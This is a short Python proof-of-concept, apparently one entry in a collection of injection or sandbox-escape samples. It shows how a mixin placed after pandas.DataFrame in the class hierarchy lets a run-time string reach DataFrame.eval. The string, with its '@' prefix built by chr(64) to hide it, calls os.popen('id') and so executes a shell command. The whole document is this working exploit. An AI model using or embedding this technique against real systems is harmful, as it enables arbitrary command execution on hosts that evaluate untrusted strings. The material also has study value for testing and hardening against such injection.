# source: pandas query/eval injection via "@" locals (pandas-dev/pandas discussions of DataFrame.eval/query executing attribute chains); MRO shadowing idea from pyjail subclass tricks
# family: script mixin placed after a library base in the MRO: the trusted self.eval resolves to DataFrame.eval
# goal: DataFrame.eval with a run-time string -> @pd.io.common.os.popen("id")
import pandas as pd
class Mixin:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        return self.eval(e)
class Frame(pd.DataFrame, Mixin):
    pass
f = Frame({"a": [1.0, 2.0]})
print(f.run(chr(64) + "pd.io.common.os.popen('id').read()"))
